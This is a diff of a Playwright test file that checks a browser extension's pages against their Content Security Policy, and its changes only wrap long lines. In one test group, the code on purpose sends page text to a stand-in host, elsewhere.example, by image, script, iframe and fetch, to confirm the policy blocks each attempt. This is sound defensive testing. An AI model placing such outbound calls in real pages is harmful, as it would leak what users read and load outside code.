@@ -10,14 +10,17 @@ async function open({ context, background }: Desk, file: string): Promise<Page> 
   const page = await context.newPage();
   await page.addInitScript(() => {
     const broken: string[] = [];
-    document.addEventListener('securitypolicyviolation', ({ effectiveDirective }) => broken.push(effectiveDirective));
+    document.addEventListener('securitypolicyviolation', ({ effectiveDirective }) =>
+      broken.push(effectiveDirective),
+    );
     Object.assign(globalThis, { broken });
   });
   await page.goto(new URL(file, background.url()).href);
   return page;
 }
 
-const brokenOn = (page: Page) => page.evaluate(() => (globalThis as unknown as { broken: string[] }).broken);
+const brokenOn = (page: Page) =>
+  page.evaluate(() => (globalThis as unknown as { broken: string[] }).broken);
 
 for (const file of PAGES)
   test(`${file} keeps to the policy of the extension’s pages`, async ({ desk }) => {
@@ -35,8 +38,12 @@ test.describe('what would carry off what was read', () => {
     const page = await open(desk, 'options.html');
     await page.evaluate(async () => {
       new Image().src = 'https://elsewhere.example/?text';
-      document.body.append(Object.assign(document.createElement('script'), { src: 'https://elsewhere.example/it.js' }));
-      document.body.append(Object.assign(document.createElement('iframe'), { src: 'https://elsewhere.example/' }));
+      document.body.append(
+        Object.assign(document.createElement('script'), { src: 'https://elsewhere.example/it.js' }),
+      );
+      document.body.append(
+        Object.assign(document.createElement('iframe'), { src: 'https://elsewhere.example/' }),
+      );
       await fetch('http://elsewhere.example/?text').catch(() => undefined);
     });
     const broken = async () => [...new Set(await brokenOn(page))].sort();
